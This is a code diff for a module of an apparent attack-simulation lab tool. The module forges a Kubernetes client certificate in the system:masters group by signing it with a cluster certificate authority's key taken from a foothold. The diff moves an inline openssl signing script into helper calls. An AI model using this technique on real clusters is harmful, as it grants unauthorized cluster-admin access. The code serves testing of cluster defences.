@@ -10,6 +10,7 @@ from __future__ import annotations
 import secrets
 from typing import TYPE_CHECKING
 
+from labkit import agents
 from labkit.cluster import Environment
 from labkit.errors import ProbeError
 from labkit.model import Claim, Foothold, Model
@@ -35,14 +36,6 @@ if TYPE_CHECKING:
 __all__ = ["TECHNIQUE"]
 
 USER, GROUP = "labkit-stolen", "system:masters"
-SIGN = """
-set -eu; umask 077; mkdir "$1"; cd "$1"
-openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout key -out csr \
-  -subj "/O=$3/CN=$2" 2>/dev/null
-echo extendedKeyUsage=clientAuth >usages
-openssl x509 -req -in csr -CA "$4" -CAkey "$5" -CAserial serial -CAcreateserial -days 1 \
-  -extfile usages -out crt 2>/dev/null
-"""
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
@@ -64,10 +57,7 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
         return refused
     folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's own
     try:
-        wanted = authority.certificate, authority.key
-        argv = ["sh", "-c", SIGN, "sign", folder, USER, GROUP, *wanted]
-        if code := run_from(lab, foothold, argv).exit_code:
-            raise ProbeError(f"openssl could not sign with {authority.key}: exit status {code}")
+        _sign(lab, foothold, folder, authority)
         return ask(
             lab,
             TECHNIQUE.name,
@@ -80,6 +70,20 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
         )
     finally:
         run_from(lab, foothold, ["rm", "-rf", folder])
+
+
+def _sign(lab: Lab, foothold: Foothold, folder: str, authority: Authority) -> None:
+    """Make a key and a certificate for it, which the authority never saw."""
+    made = run_from(lab, foothold, agents.argv("make_key", folder, USER, GROUP))
+    if made.exit_code:
+        raise ProbeError(f"openssl made no key: exit status {made.exit_code}")
+    argv = agents.argv("sign_certificate", authority.certificate, authority.key, folder)
+    signed = run_from(lab, foothold, argv, stdin=made.stdout)
+    if signed.exit_code:
+        raise ProbeError(
+            f"openssl could not sign with {authority.key}: exit status {signed.exit_code}"
+        )
+    run_from(lab, foothold, ["tee", f"{folder}/crt"], stdin=signed.stdout)
 
 
 def _control(lab: Lab) -> str:
